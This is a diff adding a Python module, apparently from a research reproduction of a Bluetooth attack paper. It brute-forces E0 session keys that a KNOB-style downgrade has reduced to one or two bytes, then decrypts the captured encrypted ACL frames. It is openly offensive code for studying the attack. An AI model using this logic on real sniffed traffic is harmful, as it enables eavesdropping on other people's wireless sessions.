@@ -1,0 +1,84 @@
+"""KNOB-style low-entropy session brute forcing (paper §VIII context).
+
+The KNOB attack (Antonioli et al., USENIX Sec'19) manipulates the
+encryption key size negotiation so two victims agree on Kc' with one
+byte of entropy.  The paper positions BLAP against it: KNOB needs
+firmware modification and is per-session; link key extraction works
+above the controller and is persistent.
+
+This module demonstrates the *consequence* of a KNOB'd negotiation:
+with ``encryption_key_size == 1`` an air sniffer brute-forces the
+256-candidate key space offline and reads the session without ever
+touching the link key.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Callable, List, Optional
+
+from repro.core.errors import AttackError
+from repro.core.types import BdAddr
+from repro.attacks.eavesdrop import AirCapture
+from repro.crypto.e0 import e0_encrypt
+from repro.crypto.legacy import reduce_key_entropy
+
+
+@dataclass(frozen=True)
+class KnobResult:
+    """A successful low-entropy brute force."""
+
+    kc_prime: bytes
+    plaintexts: List[bytes]
+    candidates_tried: int
+
+
+def _decrypt_session(
+    capture: AirCapture, kc_prime: bytes, master_addr: BdAddr, master_name: str
+) -> List[bytes]:
+    plaintexts = []
+    seq_by_direction = {1: 0, 2: 0}
+    for captured in capture.encrypted_acl_frames():
+        direction = 1 if captured.sender == master_name else 2
+        clock = direction << 24 | seq_by_direction[direction]
+        seq_by_direction[direction] += 1
+        plaintexts.append(
+            e0_encrypt(kc_prime, master_addr, clock, captured.frame.payload.data)
+        )
+    return plaintexts
+
+
+def brute_force_low_entropy_session(
+    capture: AirCapture,
+    master_addr: BdAddr,
+    master_name: str,
+    entropy_bytes: int,
+    plaintext_predicate: Callable[[List[bytes]], bool],
+) -> Optional[KnobResult]:
+    """Search the reduced key space against a known-plaintext check.
+
+    ``plaintext_predicate`` recognises a correct decryption (e.g. an
+    L2CAP header shape or an expected marker).  With ``entropy_bytes
+    == 1`` the space is 256 candidates; 16 bytes would be infeasible —
+    which is the entire point of the negotiation mitigation.
+    """
+    if not capture.encrypted_acl_frames():
+        raise AttackError("capture holds no encrypted traffic")
+    if entropy_bytes > 2:
+        raise AttackError(
+            f"brute forcing {entropy_bytes} bytes of entropy is not "
+            "feasible (that is the mitigation working)"
+        )
+    tried = 0
+    for candidate in range(256 ** entropy_bytes):
+        tried += 1
+        kc_prime = reduce_key_entropy(
+            candidate.to_bytes(entropy_bytes, "big") + b"\x00" * 15,
+            entropy_bytes,
+        )
+        plaintexts = _decrypt_session(capture, kc_prime, master_addr, master_name)
+        if plaintext_predicate(plaintexts):
+            return KnobResult(
+                kc_prime=kc_prime, plaintexts=plaintexts, candidates_tried=tried
+            )
+    return None
